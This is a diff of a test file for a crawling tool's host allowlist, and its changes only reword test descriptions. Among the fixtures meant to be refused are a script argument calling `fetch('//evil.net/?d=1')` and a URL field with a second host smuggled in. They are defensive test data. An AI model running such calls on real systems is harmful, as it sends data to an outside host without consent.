@@ -30,7 +30,7 @@ describe('hosts that may be crawled', () => {
     expect(refusalOf('scrape', { url }, parse(list)) === undefined).toBe(allowed)
   })
 
-  it('are all when none is named', () => {
+  it('are all hosts if the list is empty', () => {
     expect(refusalOf('scrape', { url: 'https://anywhere.net' }, parse(undefined))).toBeUndefined()
     expect(refusalOf('agent', { prompt: 'look around', scrapeOptions: {} }, parse(' , '))).toBeUndefined()
   })
@@ -44,7 +44,7 @@ describe('hosts that may be crawled', () => {
     [{ url: 'https://example.com', script: "fetch('//evil.net/?d=1')" }, 'evil.net'],
     [{ url: 'https://example.com https://evil.net' }, 'cannot be read'],
     [{ url: 'https://[::1' }, 'cannot be read'],
-  ])('are looked for in all arguments: %j', (given, says) => {
+  ])('are checked in all arguments: %j', (given, says) => {
     expect(refusalOf('scrape', given, parse('example.com'))).toContain(says)
   })
 
@@ -67,13 +67,13 @@ describe('hosts that may be crawled', () => {
     ['firecrawl_browser_execute', { code: "page.goto('https://example.com')" }, /code/],
     ['firecrawl_extract', { prompt: 'find it' }, /name the address/],
     ['firecrawl_scrape', {}, /name the address/],
-  ])('leave %s with %j as it should be', (tool, given, says) => {
+  ])('allow or forbid %s with %j', (tool, given, says) => {
     const refusal = refusalOf(tool, given, parse('example.com'))
     if (says === undefined) expect(refusal).toBeUndefined()
     else expect(refusal).toMatch(says)
   })
 
-  it('are told to whoever may not read others, not all of many', () => {
+  it('are listed in the error, up to a maximum', () => {
     expect(refusalOf('scrape', { url: 'https://evil.net' }, parse('a.net,*.b.net,c.net,d.net,e.net,f.net'))).toBe(
       'evil.net may not be read here; the operator allows a.net, *.b.net, c.net, d.net, e.net and others',
     )
